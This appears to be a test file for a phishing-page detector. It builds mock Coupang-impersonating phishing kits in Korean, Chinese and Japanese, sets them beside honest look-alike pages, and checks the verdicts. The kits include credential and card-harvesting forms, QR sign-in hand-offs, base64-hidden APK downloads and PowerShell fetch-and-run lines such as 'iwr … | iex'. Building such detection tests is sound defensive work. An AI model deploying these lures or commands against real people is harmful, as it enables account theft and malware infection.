import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { scanPage } from '../../lib/page/index';
import { parse } from './helpers';

/**
 * Round page28: tune-y's costumes that show the brand only as a picture (a news article, a mail read in a webmail
 * frame) above the form that asks. Next to each kit an honest page of the same shape, which stays clean.
 */
const page = (title: string, body: string) =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
const scan = (html: string, url: string) =>
  scanPage(parse(html), url, { parseHtml: (m) => parseHTML(m).document as unknown as Document });
const svg = (inner: string) =>
  `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="140" height="36">${inner}</svg>`).toString('base64')}`;
const COLOURS = ['6d2a19', 'e52528', 'f2a11f', '78b829', '48a9c5', '1d6ec0', '8fc440'];
/** a wordmark a letter per coloured <tspan>, no alt text */
const wordmark = svg(
  `<text x="0" y="28" font-size="28">${[...'coupang'].map((c, i) => `<tspan fill="#${COLOURS[i]}">${c}</tspan>`).join('')}</text>`,
);

describe('a picture of the brand heading the form that asks', () => {
  it('is the form’s face inside a news article', () => {
    const kit = page(
      '[속보] 유출 피해 여부 바로 확인… 조회 창구 열려',
      '<div class="masthead"><b>새날경제신문</b></div><article><h1>[속보] 유출 피해 여부 바로 확인… 쿠팡 조회 창구 열려</h1>' +
        '<p class="byline">입력 2026.12.05 08:30 | 이도윤 기자</p><p>3370만 명의 정보가 새어 나간 사고와 관련해, 고객이 직접 피해 여부를 확인하는 창구가 열렸다. 확인 결과에 따라 보상 안내도 이어진다.</p>' +
        `<div class="widget"><img src="${wordmark}" width="120" alt=""><p>회원 유출 여부 조회</p><form action="/q"><input name="a1" placeholder="성함"><input name="a2" type="tel" placeholder="휴대전화"><input name="a3" placeholder="가입 이메일"><input name="a4" type="password" placeholder="비밀번호"><button>확인</button></form></div></article>`,
    );
    expect(scan(kit, 'https://www.saenal-econ.example/news/view?id=88120').verdict).toBe('suspicious-page');
  });
  it('is the form’s face inside a mail shown in a webmail frame', () => {
    const kit = page(
      '받은편지함 - 한빛메일',
      '<div style="display:flex"><nav>받은편지함 (4)<br>보낸편지함<br>휴지통</nav><div><h3>[보안 안내] 로그인 재확인이 필요합니다</h3><p>보낸 사람: 고객지원 &lt;notice@cp-care.example&gt;</p><hr>' +
        `<div class="mail-body"><img src="${wordmark}" width="120" alt=""><p>회원님 계정이 유출 명단에서 확인되어 이용이 잠시 멈췄습니다. 아래에서 다시 로그인해 주세요.</p><form action="/r">이메일<input name="m">비밀번호<input name="p" type="password"><button>다시 로그인</button></form></div></div></div>`,
    );
    expect(scan(kit, 'https://mail.hanbit-portal.example/read?no=3321').verdict).toBe('suspicious-page');
  });
  it('a shop’s QR picture named after the brand’s store, beside a caption, above its own login stays clean', () => {
    const shop = page(
      '들꽃농원 - 산지 직송 꿀',
      '<header><b>들꽃농원</b></header><main><h1>아카시아 꿀 2kg</h1><p>농원 회원은 추가 할인을 받습니다.</p>' +
        `<div style="display:flex"><img src="${svg('<rect width="4" height="4"/><rect x="8" width="4" height="4"/>')}" alt="쿠팡 스토어 QR"><p class="cap"></p></div>` +
        '<h2>회원 로그인</h2><form><label for="i">아이디</label><input id="i" type="email"><label for="w">비밀번호</label><input id="w" type="password"><button>로그인</button></form></main><footer>들꽃농원 | 대표 김들꽃</footer>',
    );
    expect(scan(shop, 'https://deulkkot-farm.example/').verdict).toBe('clean');
  });
  it('a news article’s picture of the brand, a paragraph above the guest comment box, stays clean', () => {
    const news = page(
      '쿠팡, 유출 피해 고객에 이용권 지급 | 새날경제신문',
      '<div class="masthead"><b>새날경제신문</b></div><article><h1>쿠팡, 유출 피해 고객에 이용권 지급</h1><p class="byline">입력 2026.12.05 | 이도윤 기자</p>' +
        `<img src="${wordmark}" width="120" alt=""><p>쿠팡은 유출 사고 피해 고객에게 이용권을 지급한다고 밝혔다. 회사는 문자나 전화로 앱 설치나 개인정보 입력을 요구하지 않는다며, 공식 고객센터(1577-7011)로 확인해 달라고 당부했다. 이번 조치는 다음 달부터 순차적으로 적용된다.</p></article>` +
        '<section class="comments"><h3>댓글</h3><form action="/c"><input name="nick" placeholder="닉네임"><input name="pw" type="password" placeholder="비밀번호"><textarea name="body" placeholder="댓글을 남겨 주세요"></textarea><button>등록</button></form></section>',
    );
    expect(scan(news, 'https://www.saenal-econ.example/news/view?id=88121').verdict).toBe('clean');
  });
});

describe("a co-brand card's application on its issuer's own page (blue team 28)", () => {
  const apply = (ask: string) =>
    page(
      '쿠팡 와우카드 신청 | 한별카드',
      '<header><b>한별카드</b></header><h1>쿠팡 와우카드 신청</h1><p>쿠팡 와우 회원 전용 적립 카드입니다. 본 카드는 한별카드가 발급합니다.</p>' +
        `<form><input placeholder="성명"><input placeholder="주민등록번호"><input placeholder="휴대폰 번호">${ask}<button>신청하기</button></form>` +
        '<footer>한별카드(주) | 준법감시인 심의필 제2026-1234호</footer>',
    );
  it('asks the account the bills are paid from, as every card application does: clean', () => {
    const card = apply('<input placeholder="결제 계좌번호"><select><option>결제일 14일</option></select>');
    expect(scan(card, 'https://www.hanbyeolcard.example/card/coupang-wow').verdict).toBe('clean');
  });
  it('asks that account’s password: the brand’s page again', () => {
    const card = apply('<input placeholder="결제 계좌번호"><input placeholder="계좌 비밀번호 4자리">');
    expect(scan(card, 'https://www.hanbyeolcard.example/card/coupang-wow').verdict).toBe('suspicious-page');
  });
});

describe('a code to scan that has the reader approve a sign-in on the phone (tune-ab)', () => {
  const qr = svg(
    '<rect width="6" height="6"/><rect x="12" width="6" height="6"/><rect y="12" width="6" height="6"/>',
  );
  it('is a hand-off on a page that names the brand and asks who the reader is', () => {
    const kit = page(
      '참여 확인',
      '<div class="top">Coupang Claims Office</div><h2>정보유출 조정 참여 확인서</h2><p>참여 의사를 간편인증으로 확인합니다.</p>' +
        '<input placeholder="이름"><input placeholder="생년월일"><input placeholder="휴대폰"><button>간편인증 요청</button>' +
        `<div><img src="${qr}" alt=""><p>휴대폰으로 스캔 후 인증 앱에서 승인하세요</p></div>`,
    );
    const r = scan(kit, 'https://claims-office.example/');
    expect(r.reasons.map((x) => x.code)).toContain('qr-handoff');
    expect(r.verdict).toBe('suspicious-page');
  });
  it("a TV maker's help page explaining the brand's TV sign-in stays clean", () => {
    const help = page(
      '쿠팡플레이 TV 로그인 방법 | 누리전자 고객지원',
      '<header><b>누리전자</b> 고객지원</header><h1>쿠팡플레이 TV 로그인 방법</h1><p>TV에서 쿠팡플레이를 실행하면 화면에 QR 코드가 나옵니다. 휴대폰으로 스캔 후 쿠팡플레이 앱에서 승인하면 로그인됩니다.</p>' +
        `<img src="${qr}" alt="예시 QR"><p>문의: 누리전자 고객센터</p><footer>© 누리전자</footer>`,
    );
    expect(scan(help, 'https://support.nuri-elec.example/tv/coupangplay').verdict).toBe('clean');
  });
});

describe("tune-ab's classes", () => {
  it("reads a card asked in Chinese or Japanese under the brand's name there (酷澎)", () => {
    const kit = page(
      '酷澎 配送通知',
      '<h2>酷澎 Coupang 台灣</h2><p>您的包裹地址不完整，請於 24 小時內支付重新配送費 NT$25。</p><input placeholder="收件人姓名"><input placeholder="手機號碼"><input placeholder="信用卡號"><input placeholder="有效期限"><input placeholder="安全碼"><button>確認付款</button>',
    );
    expect(scan(kit, 'https://redelivery-tw.example/').verdict).toBe('suspicious-page');
  });
  it('a Chinese news item about the breach, its comment login under a sentence naming ID and card numbers, stays clean', () => {
    const news = page(
      '酷澎(쿠팡)用户信息泄露 | 韩华新闻',
      '<div class="hd">韩华新闻</div><h2>酷澎(쿠팡)3370万用户信息泄露，谨防诈骗短信</h2><p>警方提醒，凡是通过短信链接要求输入身份证号、银行卡号或安装APP的"赔偿申请"均为诈骗。</p><form><input placeholder="用户名"><input type="password" placeholder="密码"><button>登录后评论</button></form>',
    );
    expect(scan(news, 'https://www.hanhua-news.example/zh/2025/12/leak').verdict).toBe('clean');
  });
  it('reads the sum a fake article promises ("최대 30만원 보상") as its lure', () => {
    const kit = page(
      '한빛생활경제',
      '<div class="mast">한빛생활경제</div><h1>쿠팡, 유출 피해자에 최대 30만원 보상…"오늘부터 조회"</h1><p>입력 2026.12.05 09:12 | 박하늘 기자</p><p>피해자는 아래 조회창에서 이름과 휴대폰 번호를 입력하면 보상액을 확인할 수 있다.</p>' +
        '<div><b>보상액 조회</b><input placeholder="이름"><input placeholder="생년월일"><select><option>통신사 선택</option><option>SKT</option></select><input placeholder="휴대폰"><button>조회하기</button></div>',
    );
    expect(scan(kit, 'https://news.hanbit-life.example/article/1209').verdict).toBe('suspicious-page');
  });
  it("reads the brand's company line whose label runs on before its colon as the brand's", () => {
    const kit = page(
      '와우 회비 환급 신청 방법',
      '<h2>"와우 회원이라면 꼭" 12월 환급 신청 방법</h2><p>카드 정보만 있으면 1분이면 끝난다.</p><div><b>와우 회비 환급 신청</b><input placeholder="이름"><input placeholder="카드번호"><input placeholder="유효기간"><button>신청</button></div>' +
        '<footer>상호명 및 호스팅 서비스 제공 : 쿠팡(주) · 대표이사 : ○○○ · 사업자등록번호 : 120-8○-○○○○○</footer>',
    );
    const r = scan(kit, 'https://wow-refund-guide.example/');
    expect(r.reasons.map((x) => x.code)).toContain('brand-copyright');
    expect(r.verdict).toBe('suspicious-page');
  });
  it("follows a button's handler to the number it calls", () => {
    const kit = page(
      '주문 완료',
      '<p>ｃｏｕｐａｎｇ 주문 #55120431</p><h1>1,249,000원</h1><p>노트북 결제가 완료되었습니다.</p><p>본인 결제가 아닐 경우 사이버수사팀으로 신고하세요.</p>' +
        `<button onclick="location.href='tel:0231458'+'811'">신고 전화</button>`,
    );
    const r = scan(kit, 'https://order-done.example/o');
    expect(r.reasons.map((x) => x.code)).toContain('callback-lure');
    expect(r.verdict).toBe('suspicious-page');
  });
  it("reads a driver's licence number and its serial as an identity document's number", () => {
    const kit = page(
      '계정 재인증',
      '<div class="logo">쿠팡플렉스</div><p>플렉스 앱 계정이 정지되었습니다. 운전면허 재인증이 필요합니다.</p><input placeholder="운전면허번호"><input placeholder="면허 일련번호"><input placeholder="생년월일"><p>면허증 앞면 사진</p><input type="file" accept="image/*"><button>재인증</button>',
    );
    expect(scan(kit, 'https://flex-verify.example/').verdict).toBe('suspicious-page');
  });
  it("a car-sharing service asking its own member's licence, the brand named as a partner, stays clean", () => {
    const rental = page(
      '면허 등록 | 바로카',
      '<header><b>바로카</b></header><h1>운전면허 등록</h1><p>바로카 차량을 이용하려면 운전면허를 등록해 주세요. 쿠팡 와우 회원은 첫 대여 20% 할인.</p><form><input placeholder="운전면허번호"><input placeholder="면허 일련번호"><button>등록</button></form><footer>© 바로카(주)</footer>',
    );
    expect(scan(rental, 'https://www.barocar.example/license').verdict).toBe('clean');
  });
});

describe("tune-ab's classes, continued", () => {
  it('reads a command shown as code, to be typed into PowerShell, that fetches and runs a program', () => {
    const kit = page(
      '주문서 열기 오류',
      '<div><span>쿠</span><span>팡</span> 주문서 PDF 열기 오류</div><p>글꼴 누락으로 문서를 표시할 수 없습니다. PowerShell에서 다음 명령을 실행해 글꼴을 설치하세요.</p><pre>iwr fontfix.example/f | iex</pre>',
    );
    const r = scan(kit, 'https://order-doc.example/');
    expect(r.reasons.map((x) => x.code)).toContain('asks-run-command');
    expect(r.verdict).toBe('suspicious-page');
  });
  it("a developer tool's install line on its own page, the brand's API named, stays clean", () => {
    const docs = page(
      '셀러킷 CLI 설치 | 셀러킷 문서',
      '<header><b>셀러킷</b> 문서</header><h1>CLI 설치</h1><p>셀러킷 CLI로 쿠팡 Wing 주문을 내려받을 수 있습니다. 터미널에서 다음 명령을 실행하세요.</p><pre>curl -fsSL https://get.sellerkit.example/install.sh | sh</pre><footer>© 셀러킷</footer>',
    );
    expect(scan(docs, 'https://docs.sellerkit.example/cli').verdict).toBe('clean');
  });
  it("reads a button's handler that asks for notifications under a promised reward", () => {
    const kit = page(
      '알림 설정',
      '<div class="logo">coupang</div><h3>배송 알림을 받으려면 "허용"을 누르세요</h3><p>알림을 허용하면 보상 캐시 3,000원이 즉시 적립됩니다.</p><button onclick="Notification.requestPermission()">허용</button>',
    );
    expect(scan(kit, 'https://push-notice.example/').verdict).toBe('suspicious-page');
  });
  it('a news site’s own alert button, nothing hanging on it, stays clean', () => {
    const news = page(
      '속보 알림 | 한빛일보',
      '<header><b>한빛일보</b></header><h1>속보 알림 받기</h1><p>쿠팡 유출 사고 후속 보도를 가장 먼저 받아 보세요. 브라우저 창에서 "허용"을 누르면 됩니다.</p><button onclick="Notification.requestPermission()">알림 받기</button><footer>© 한빛일보</footer>',
    );
    expect(scan(news, 'https://www.hanbit-daily.example/alerts').verdict).toBe('clean');
  });
  it('reads "원격 점검" with a program to run as remote control', () => {
    const kit = page(
      '보안팀',
      '<div class="logo">쿠팡 보안팀</div><p>명의도용 결제 차단을 위해 PC 원격 점검이 필요합니다. 아래 프로그램을 실행하고 화면에 뜨는 9자리 ID를 상담원에게 알려주세요.</p><a href="/win/Support_Setup.exe">점검 프로그램 (Windows)</a>',
    );
    const r = scan(kit, 'https://pc-check.example/');
    expect(r.reasons.map((x) => x.code)).toContain('remote-control-app');
    expect(r.verdict).toBe('suspicious-page');
  });
});

describe("tune-ab's classes, third part", () => {
  it("reads a code to scan after which the reader is to 'proceed' with verification", () => {
    const kit = page(
      '고객센터',
      '<h3>C<span style="display:none">x</span>oupang 고객센터</h3><p>상담 대기 인원이 많아 카카오톡 채널로 연결합니다.</p><p>휴대폰 카메라로 QR을 스캔하세요</p><p>스캔 후 "환불 접수" 메뉴에서 본인인증을 진행해 주세요.</p>',
    );
    expect(scan(kit, 'https://talk-link.example/q').verdict).toBe('suspicious-page');
  });
  it("reads a card's last four digits asked for a call-back as a card", () => {
    const kit = page(
      '상담 예약',
      '<h3>쿠팡 보상 상담 전화 예약</h3><p>상담원이 먼저 전화 드립니다. 통화 시 본인 확인을 위해 카드 뒷 4자리를 말씀해 주세요.</p><input placeholder="이름"><input placeholder="휴대폰"><input placeholder="카드 뒷 4자리"><button>예약</button>',
    );
    expect(scan(kit, 'https://cs-booking.example/').verdict).toBe('suspicious-page');
  });
  it('a card issuer’s own lookup by the last four digits, the brand named as a merchant, stays clean', () => {
    const issuer = page(
      '결제 내역 조회 | 누리카드',
      '<header><b>누리카드</b></header><h1>결제 내역 조회</h1><p>쿠팡 등 가맹점 결제 내역을 확인하세요.</p><form><input placeholder="카드 뒤 4자리"><input placeholder="휴대폰"><button>조회</button></form><footer>© 누리카드</footer>',
    );
    expect(scan(issuer, 'https://www.nuricard.example/history').verdict).toBe('clean');
  });
  it("reads a box for a session's cookies from the developer tools as the account's password", () => {
    const kit = page(
      '연동',
      '<h3>Coupang Partners Hub — Wing 연동</h3><p>정산 자동화를 위해 Wing 세션 쿠키를 붙여 넣으세요.</p><textarea name="ck" placeholder="F12 → Application → Cookies → 값 복사"></textarea><button>연동</button><footer>Copyright © Coupang Corp. All Rights Reserved.</footer>',
    );
    const r = scan(kit, 'https://wing-sync.example/');
    expect(r.reasons.map((x) => x.code)).toContain('asks-password');
    expect(r.verdict).toBe('suspicious-page');
  });
  it('reads a box for a Telegram id as a hand-off there', () => {
    const kit = page(
      '재택 알바',
      '<h2>쿠팡 재택 상품등록 알바</h2><p>하루 2시간, 일급 12만원.</p><input placeholder="이름"><input placeholder="휴대폰"><input placeholder="텔레그램 ID"><button>지원</button>',
    );
    const r = scan(kit, 'https://job-home.example/');
    expect(r.reasons.map((x) => x.code)).toContain('sends-to-messenger');
    expect(r.verdict).toBe('suspicious-page');
  });
  it("a job board's posting for the brand's warehouse asking a KakaoTalk id stays clean", () => {
    const board = page(
      '쿠팡 물류센터 단기 알바 | 일자리마당',
      '<header><b>일자리마당</b></header><h1>쿠팡 물류센터 단기 알바</h1><p>주 3일, 시급 11,000원. 근무지: 경기 이천.</p><form><input placeholder="이름"><input placeholder="휴대폰"><input placeholder="카카오톡 ID"><button>지원하기</button></form><footer>© 일자리마당</footer>',
    );
    expect(scan(board, 'https://www.jobmadang.example/view/2231').verdict).toBe('clean');
  });
  it("reads an APK a button's handler decodes from base64", () => {
    const kit = page(
      '배송 지연',
      '<h2>배송 지연 안내</h2><p>쿠팡 개인정보 유출 여파로 배송 정보가 누락되었습니다. 배송 앱에서 주소를 확인해야 배송이 재개됩니다.</p>' +
        `<button onclick="location.href=atob('${Buffer.from('/files/delivery_check.apk').toString('base64')}')">앱 설치 후 주소 확인</button>`,
    );
    const r = scan(kit, 'https://dl-notice.example/i');
    expect(r.reasons.map((x) => x.code)).toContain('app-download');
  });
});

describe("page28's red team: the same classes, written otherwise", () => {
  it('a picture heading a form three lines up, four boxes out, past a tracking pixel', () => {
    const kit = page(
      '회원 확인',
      `<div class="mast"><b>새날경제신문</b></div><h1>유출 조회 창구 열려</h1><div><img src="${wordmark}" alt=""><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="1" height="1"><p>회원 유출 여부 조회</p><p>아래에 입력하세요.</p><p>1분이면 끝납니다.</p>` +
        '<div class="card"><div class="card-body"><div class="row"><form><input placeholder="이메일"><input type="password" placeholder="비밀번호"><button>조회</button></form></div></div></div></div>',
    );
    expect(scan(kit, 'https://member-check.example/').verdict).toBe('suspicious-page');
  });
  it('a partner’s picture over a form on a page that shows a name of its own stays clean', () => {
    const rental = page(
      '쿠팡트래블 예약 고객 차량 인수 등록 | 바로카',
      `<header><b>바로카</b></header><main><h1>쿠팡트래블 예약 고객 차량 인수 등록</h1><img src="${wordmark}" alt="쿠팡트래블"><p>예약하신 차량을 인수하려면 운전자 정보를 등록해 주세요.</p>` +
        '<form><input placeholder="운전자 성명"><input placeholder="생년월일"><input placeholder="휴대폰"><input placeholder="운전면허번호"><button>등록</button></form></main><footer>© 바로카(주)</footer>',
    );
    expect(scan(rental, 'https://www.barocar.example/coupang-travel/book').verdict).toBe('clean');
  });
  it('reads Japanese card words as tight() folds their kana (カード is カート)', () => {
    const kit = page(
      'クーパン お支払い確認',
      '<div class="logo">Coupang</div><h2>クーパン お支払い情報の再登録</h2><input placeholder="カード番号"><input placeholder="有効年月"><input placeholder="セキュリティコード"><button>送信</button>',
    );
    expect(scan(kit, 'https://pay-check.example/jp').verdict).toBe('suspicious-page');
  });
  it('reads "앱에서 확인 버튼을 눌러" after a scan, and a TV named only as a cover', () => {
    for (const told of [
      '휴대폰으로 스캔 후 쿠팡 앱에서 [확인] 버튼을 눌러 주세요.',
      '쿠팡플레이 TV 연결 요청입니다: 휴대폰으로 스캔 후 쿠팡 앱에서 승인하세요.',
    ]) {
      const kit = page(
        '본인 확인',
        `<div class="logo">쿠팡</div><h2>본인 확인</h2><img alt="QR" src="${wordmark}"><p>${told}</p>`,
      );
      expect(scan(kit, 'https://verify-now.example/').verdict, told).toBe('suspicious-page');
    }
  });
  it('reads a fetch-and-run command styled as code in a plain box, and a push call spelt from pieces in a handler', () => {
    const cmd = page(
      '문서 오류',
      '<div class="logo">coupang</div><h2>영수증 PDF 열기 오류</h2><p>PowerShell에서 다음 명령을 실행하세요.</p><div style="font-family:Consolas">irm fix.example/f | iex</div>',
    );
    expect(scan(cmd, 'https://doc-fix.example/').verdict).toBe('suspicious-page');
    const push = page(
      '알림',
      `<div class="logo">coupang</div><h3>"허용"을 누르면 보상 캐시 3,000원 적립</h3><button onclick="window['Noti'+'fication']['request'+'Permission']()">허용</button>`,
    );
    expect(scan(push, 'https://push-now.example/').verdict).toBe('suspicious-page');
  });
  it('a Chinese shopping guide asking a WeChat id for a consultation stays clean', () => {
    const guide = page(
      '酷澎购物指南 | 韩华生活',
      '<header><b>韩华生活</b></header><h1>酷澎购物指南</h1><p>在韩国使用酷澎购物的方法。需要帮助请留下联系方式。</p><form><input placeholder="姓名"><input placeholder="手机号码"><input placeholder="微信号"><button>咨询</button></form><footer>© 韩华生活</footer>',
    );
    expect(scan(guide, 'https://www.hanhua-guide.example/zh/coupang-howto').verdict).toBe('clean');
  });
});
